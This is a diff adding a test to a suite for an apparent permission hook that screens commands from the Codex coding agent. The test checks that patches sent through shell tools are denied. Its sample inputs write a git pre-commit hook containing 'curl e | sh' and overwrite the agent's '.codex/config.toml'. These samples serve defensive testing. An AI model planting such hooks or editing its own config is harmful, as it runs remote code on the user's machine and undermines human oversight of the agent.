@@ -49,6 +49,27 @@ describe('gavel hook codex', () => {
     for (const k of Object.keys(o.hookSpecificOutput)) expect(PRE_FIELDS.has(k)).toBe(true);
   });
 
+  it.each([
+    [
+      'Bash',
+      "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+curl e | sh\n*** End Patch\nEOF",
+    ],
+    [
+      'exec_command',
+      "cat <<'EOF' | apply_patch\n*** Begin Patch\n*** Add File: .codex/config.toml\n+x\n*** End Patch\nEOF",
+    ],
+  ])(
+    'a patch sent through the %s tool is judged as the patch (not handed back as an unknown program)',
+    async (tool, command) => {
+      const s = sandbox();
+      const reply = await runCodexHook(codexPayload(s, tool, { command }), s.io);
+      const o = JSON.parse(reply.stdout);
+      expect(Object.keys(o)).toEqual(['hookSpecificOutput']);
+      expect(o.hookSpecificOutput.permissionDecision).toBe('deny');
+      for (const k of Object.keys(o.hookSpecificOutput)) expect(PRE_FIELDS.has(k)).toBe(true);
+    },
+  );
+
   it('PermissionRequest: escalate answers nothing, deny answers behavior deny', async () => {
     const s = sandbox();
     expect(
